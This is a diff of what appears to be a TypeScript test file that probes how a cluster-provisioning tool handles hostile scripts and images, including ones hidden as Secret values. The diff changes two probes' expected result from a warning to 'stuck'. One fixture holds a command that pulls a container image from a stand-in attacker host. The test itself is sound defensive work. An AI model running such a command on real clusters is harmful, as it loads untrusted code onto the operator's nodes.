@@ -95,12 +95,12 @@ spec: {providerSpec: {value: {cloudProviderSpec: {image: evil-24.04}}}}
 
 const PROBES: readonly Row[] = [
   ...SCRIPTS.map(([name, text, seen = `+${text}`]): Row => [name, script(text), seen, 'stuck']),
-  ['a script that is the value of a Secret', { ...script(EVIL), ...withSecret(EVIL) }, `+${EVIL}`, WARNED],
+  ['a script that is the value of a Secret', { ...script(EVIL), ...withSecret(EVIL) }, `+${EVIL}`, 'stuck'],
   [
     'an image that is the value of a Secret',
     { ...script('ctr image pull evil.example/app:1'), ...withSecret('evil.example/app:1') },
     '+ctr image pull evil.example/app:1',
-    WARNED,
+    'stuck',
   ],
   [
     'a branch of a template that no node takes',
